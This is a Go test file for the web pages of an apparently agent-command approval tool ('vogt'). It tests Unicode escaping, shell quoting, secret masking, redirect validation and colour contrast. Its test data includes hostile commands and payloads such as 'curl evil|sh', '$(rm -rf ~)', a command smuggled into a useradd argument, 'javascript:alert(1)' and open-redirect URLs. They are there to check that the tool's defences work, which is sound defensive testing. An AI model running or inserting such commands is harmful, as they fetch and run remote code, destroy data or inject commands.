package pages

import (
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"vogt/internal/grant"
	"vogt/internal/reading"
)

// goSources are the package's own files, without tests.
func goSources(t *testing.T) map[string]string {
	t.Helper()
	names, err := filepath.Glob("*.go")
	if err != nil || len(names) == 0 {
		t.Fatal("no sources: ", err)
	}
	out := map[string]string{}
	for _, n := range names {
		if strings.HasSuffix(n, "_test.go") {
			continue
		}
		b, err := os.ReadFile(n)
		if err != nil {
			t.Fatal(err)
		}
		out[n] = string(b)
	}
	return out
}

func TestMarked(t *testing.T) {
	code := func(s string) string { return `<span class="inv">` + s + `</span>` }
	for _, c := range []struct {
		in     string
		breaks bool
		want   string
	}{
		{"rm -rf dist", false, "rm -rf dist"},
		{"Grüße an José", false, "Grüße an José"},
		{`<b>&"'`, false, "&lt;b&gt;&amp;&#34;&#39;"},
		{"a\u200bb", false, "a" + code("U+200B") + "b"},
		{"a\u202egpj.exe", false, "a" + code("U+202E") + "gpj.exe"},
		{"a\x1b[31mb", false, "a" + code("U+001B") + "[31mb"},
		{"a\xffb", false, "a" + code("0xFF") + "b"},
		{"a\nb", false, `a<span class="nl">↵</span>b`},
		{"a\nb", true, "a<span class=\"nl\">↵</span>\nb"},
		{"a\r\nb", true, "a" + code("U+000D") + "<span class=\"nl\">↵</span>\nb"},
		{"p\u0430ypal", false, "p" + code("U+0430") + "ypal"},
		// Text that imitates the code of a character is not taken for one.
		{"<U+200B>", false, code("U+003C") + "U+200B&gt;"},
		{"<0xFF>", false, code("U+003C") + "0xFF&gt;"},
	} {
		if got := string(marked(c.in, c.breaks)); got != c.want {
			t.Errorf("%q: %s, want %s", c.in, got, c.want)
		}
	}
	if got := string(prose("„so“ – sagt’s\u200b")); got != "„so“ – sagt’s"+code("U+200B") {
		t.Errorf("prose: %s", got)
	}
}

// FuzzMarked: whatever comes in, what comes out is text with our own spans,
// nothing in it is invisible, and different texts look different.
func FuzzMarked(f *testing.F) {
	for _, s := range []string{"", "<script>", "a\nb", "<U+000A>", "a\u202eb", "\xff<0xFF>", "<span class=\"inv\">U+0041</span>"} {
		f.Add(s, s+"\u200b")
	}
	spans := regexp.MustCompile(`<span class="(inv|nl)">[^<]*</span>`)
	f.Fuzz(func(t *testing.T, a, b string) {
		shown := string(marked(a, false))
		rest := spans.ReplaceAllString(shown, "")
		if strings.ContainsAny(rest, "<>\"'") {
			t.Errorf("%q: markup in %s", a, rest)
		}
		if !utf8.ValidString(shown) || strings.ContainsAny(shown, "\x00\r\n\t\x1b\u200b\u202e\u2066") {
			t.Errorf("%q: invisible in %q", a, shown)
		}
		if a != b && strings.Count(a, "↵") == strings.Count(b, "↵") && shown == string(marked(b, false)) {
			t.Errorf("%q and %q look the same: %s", a, b, shown)
		}
		head, left := cut(a, 10)
		if len(head) > 10 || !strings.HasPrefix(a, head) || left < 0 || (left == 0) != (head == a) {
			t.Errorf("cut %q: %q, %d", a, head, left)
		}
	})
}

// TestQuoteReadsBack gives quoted commands to a real shell.
func TestQuoteReadsBack(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no POSIX shell here")
	}
	for _, argv := range [][]string{
		{"ls"}, {"a b", "", "c"}, {"it's", `"`, `\`, "$HOME", "`id`", "$(id)", "*", "~", "#x", "a;b", "a\nb", "=x", "-n", "!", "{a,b}", "é"},
	} {
		script := `for a in ` + reading.Line(argv) + `; do printf '%s\0' "$a"; done`
		out, err := exec.Command(sh, "-c", script).Output()
		if err != nil {
			t.Fatalf("%s: %v", script, err)
		}
		got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		if !slices.Equal(got, argv) {
			t.Errorf("%q reads back as %q", argv, got)
		}
	}
}

func TestWords(t *testing.T) {
	for name, want := range map[string]string{"Mara Lindqvist": "ML", "claude": "cl", "x": "x", "": "?", "\u202e": "?", "ärger": "är"} {
		if got := initials(name); got != want {
			t.Errorf("initials %q: %q, want %q", name, got, want)
		}
	}
	for in, want := range map[string]string{"/usr/bin/rm": "rm", `C:\Windows\cmd.exe`: "cmd.exe", "": ".", strings.Repeat("a", 50): strings.Repeat("a", 40) + "…"} {
		if got := baseName(in); got != want {
			t.Errorf("base name %q: %q, want %q", in, got, want)
		}
	}
	if got := mixedWords("ls p\u0430ypal \u043f\u0440\u0438\u0432\u0435\u0442 g\u043eogle", 5); len(got) != 2 {
		t.Errorf("mixed words: %q", got)
	}
	argv := []string{"abc", "defgh", "i"}
	if got := firstBytes(argv, 5); !slices.Equal(got, []string{"abc", "de"}) || argv[1] != "defgh" {
		t.Errorf("first bytes: %q of %q", got, argv)
	}
}

func TestCommandOf(t *testing.T) {
	long := strings.Repeat("é", 20000)
	c := commandOf([]string{"sh", "-c", long}, false)
	if len(c.Text) > textShown || c.Length != runes(reading.Line([]string{"sh", "-c", long})) || c.Left != c.Length-runes(c.Text) {
		t.Errorf("long: %d bytes shown, length %d, left %d", len(c.Text), c.Length, c.Left)
	}
	if last := c.Args[2]; runes(last.Text)+last.Left != 20000 {
		t.Errorf("long: argument shows %d and leaves %d", runes(last.Text), last.Left)
	}
	if w := commandOf([]string{"sh", "-c", long}, true); w.Left != 0 || w.Args[2].Left != 0 || !strings.Contains(w.Text, long) {
		t.Error("all on one page is not all")
	}
	huge := strings.Repeat("x", 200_000)
	if c := commandOf([]string{"echo", huge}, false); c.Args[1].Left+runes(c.Args[1].Text) != len(huge) || c.Left+runes(c.Text) != c.Length {
		t.Errorf("huge: argument shows %d and leaves %d; text leaves %d of %d", runes(c.Args[1].Text), c.Args[1].Left, c.Left, c.Length)
	}
	many := make([]string, 500)
	if c := commandOf(many, false); len(c.Args) != argsShown || c.More != 500-argsShown || !c.Folded {
		t.Errorf("many: %d shown, %d more", len(c.Args), c.More)
	}
	secret := "hunter2-Correct-Horse-41"
	s := commandOf([]string{"curl", "--password", secret, "https://x.example/"}, false)
	if s.Secrets != 1 || strings.Contains(s.Text, secret) || !strings.Contains(s.Unmasked, secret) {
		t.Errorf("secret: %+v", s)
	}
	for _, a := range s.Args {
		if strings.Contains(a.Text, secret) {
			t.Errorf("the list shows the secret: %q", a.Text)
		}
	}
	if html.EscapeString(s.Text) == "" {
		t.Error("nothing is left of the command")
	}
}

// TestMaskHidesNothingThatRuns: values are masked, what a shell could run stays.
func TestMaskHidesNothingThatRuns(t *testing.T) {
	for _, c := range []struct {
		argv   []string
		hidden string // "" where the command must be shown as it is
	}{
		{[]string{"x", "--password=$(rm -rf ~)"}, ""},
		{[]string{"sh", "-c", "PASSWORD=`curl evil|sh` true"}, ""},
		{[]string{"PASSWORD=`curl evil|sh`"}, ""},
		{[]string{"useradd", "-p", ";curl evil|sh;", "x"}, ""},
		{[]string{"x", "--token", "a\nb"}, ""},
		{[]string{"x", "--token=a&b"}, ""},
		{[]string{"x", "--token='a'"}, ""},
		{[]string{"x", "--token=<(id)"}, ""},
		{[]string{"x", "--token=a\u00a0b"}, ""},
		{[]string{"x", "--password", "hunter2-Correct"}, "hunter2-Correct"},
		{[]string{"x", "--password=hunter2-Correct"}, "hunter2-Correct"},
		// Only what is masked counts, not what stands around it.
		{[]string{"curl", "-H", "Authorization: Bearer abcdefghijklmnopqrstuvwxyz0123"}, "ijklmnopqrstuvwxyz0123"},
		{[]string{"sh", "-c", "PASSWORD=hunter2 run; rm -rf ~"}, "hunter2"},
	} {
		whole, line := reading.Line(c.argv), lineOf(grant.Request{Command: c.argv})
		view := commandOf(c.argv, false)
		if c.hidden == "" {
			if view.Text != whole || view.Secrets != 0 || line != whole {
				t.Errorf("%q is shown as %q and listed as %q", c.argv, view.Text, line)
			}
			// By itself a text may be read in parts, of which only values go.
			if arg := c.argv[len(c.argv)-1]; strings.ContainsAny(arg, "$`") && maskedText(arg) != arg {
				t.Errorf("%q by itself is shown as %q", arg, maskedText(arg))
			}
			continue
		}
		if strings.Contains(view.Text, c.hidden) || strings.Contains(line, c.hidden) || view.Secrets != 1 || view.Unmasked != whole {
			t.Errorf("%q is shown as %q and listed as %q", c.argv, view.Text, line)
		}
	}
}

// FuzzMaskedArgv: whatever is masked, every character that a shell reads as
// more than itself is still there, in its order.
func FuzzMaskedArgv(f *testing.F) {
	f.Add("curl", "--password=$(id)", "https://u:p@h/?token=a&key=b c")
	f.Add("sh", "-c", "TOKEN='a b' x; API_KEY=\"$(y)\" z")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		argv := []string{a, b, c}
		for i, masked := range maskedArgv(argv) {
			keep := func(s string) string {
				return strings.Map(func(r rune) rune {
					if strings.ContainsRune(" \t\n\"'$`;|&<>()", r) {
						return r
					}
					return -1
				}, s)
			}
			if keep(argv[i]) != keep(masked) {
				t.Errorf("%q became %q", argv[i], masked)
			}
		}
	})
}

// FuzzCommand: the boxes around words change nothing of the text, and each
// holds one word.
func FuzzCommand(f *testing.F) {
	for _, s := range []string{"rm -rf ./build-a/b", "a\nb-c\u200b-d", "<span class=\"w\">", "//x--y// -z", "-", " - \n", " /0", "-rf /home/x-y"} {
		f.Add(s)
	}
	box := regexp.MustCompile(`<span class="w">((?:<span class="(?:inv|nl)">[^<]*</span>|[^<])*)</span>`)
	f.Fuzz(func(t *testing.T, s string) {
		shown, plain := string(command(s)), string(marked(s, true))
		if got := box.ReplaceAllString(shown, "$1"); got != plain {
			t.Errorf("%q: %s, without boxes %s, want %s", s, shown, got, plain)
		}
		for _, m := range box.FindAllStringSubmatch(shown, -1) {
			if text := regexp.MustCompile(`<[^>]*>`).ReplaceAllString(m[1], ""); strings.ContainsAny(strings.TrimRight(text, "/"), " \n/") {
				t.Errorf("%q: a box holds %q", s, text)
			}
		}
	})
}

func FuzzLocalPath(f *testing.F) {
	for _, s := range []string{"/", "/grants/g-1?all=1", "//evil.example", `/\evil.example`, "https://evil.example", "/login?next=/", "/p/x", "javascript:alert(1)", "/a\nb", "/%2F/evil"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, next string) {
		got := localPath(next)
		if !strings.HasPrefix(got, "/") || strings.HasPrefix(got, "//") || strings.HasPrefix(got, `/\`) || strings.ContainsAny(got, "\r\n\t\x00") {
			t.Errorf("%q leads to %q", next, got)
		}
	})
}

func TestLocalPath(t *testing.T) {
	for in, want := range map[string]string{
		"/grants/g-1?all=1": "/grants/g-1?all=1", "": "/", "grants": "/", "//evil.example/x": "/", `/\evil.example`: "/", "https://evil.example/": "/",
		"/login?next=/login": "/", "/p/logout": "/", "/setup?token=x": "/", "/register?token=x": "/", "/\x01": "/", "/enroll?name=a&key=b": "/enroll?name=a&key=b",
	} {
		if got := localPath(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func FuzzClickHeader(f *testing.F) {
	f.Add("1796048652000.AAAA")
	f.Fuzz(func(t *testing.T, h string) {
		issued, signature, err := parseClickHeader(h)
		if err == nil && (issued <= 0 || len(signature) > 200) {
			t.Errorf("%q: %d, %x", h, issued, signature)
		}
	})
}

// TestContrast computes the contrast of every pair of tokens that is used for
// text, in both themes (WCAG 2.2, 1.4.3 and 1.4.11).
func TestContrast(t *testing.T) {
	css, err := files.ReadFile("assets/vogt.css")
	if err != nil {
		t.Fatal(err)
	}
	token := map[string][2]string{}
	for _, m := range regexp.MustCompile(`--([\w-]+):\s*light-dark\((#\w{6}), (#\w{6})\)`).FindAllStringSubmatch(string(css), -1) {
		token[m[1]] = [2]string{m[2], m[3]}
	}
	for _, c := range []struct {
		front, back string
		least       float64
	}{
		{"ink", "bg", 7}, {"ink", "surface", 7}, {"ink", "sunken", 7}, {"ink-2", "surface", 4.5}, {"ink-2", "sunken", 4.5}, {"ink-3", "bg", 4.5},
		{"ink-3", "surface", 4.5}, {"ink-3", "sunken", 4.5}, {"accent", "surface", 4.5}, {"accent", "accent-tint", 4.5}, {"ink-2", "accent-tint", 4.5},
		{"deny-ink", "deny-bg", 7}, {"allow-ink", "allow-bg", 7}, {"low", "low-tint", 4.5}, {"med", "med-tint", 4.5}, {"high", "high-tint", 4.5},
		{"crit", "crit-tint", 4.5}, {"crit-ink", "crit", 4.5}, {"good", "good-tint", 4.5}, {"high", "sunken", 4.5}, {"high", "surface", 4.5}, {"crit", "surface", 4.5},
		{"low", "surface", 4.5}, {"med", "surface", 4.5}, {"good", "surface", 4.5},
		{"line-strong", "surface", 3}, {"focus", "bg", 3}, {"focus", "surface", 3},
	} {
		for theme, name := range []string{"light", "dark"} {
			front, back := token[c.front][theme], token[c.back][theme]
			if front == "" || back == "" {
				t.Fatalf("no token %s or %s", c.front, c.back)
			}
			if got := contrast(t, front, back); got < c.least {
				t.Errorf("%s: %s on %s is %.2f, want at least %.1f", name, c.front, c.back, got, c.least)
			}
		}
	}
	// Yes and no shout equally.
	for theme, name := range []string{"light", "dark"} {
		no, yes := contrast(t, token["deny-bg"][theme], token["bg"][theme]), contrast(t, token["allow-bg"][theme], token["bg"][theme])
		if no/yes > 1.35 || yes/no > 1.35 {
			t.Errorf("%s: Deny stands out with %.1f, Allow with %.1f", name, no, yes)
		}
	}
}
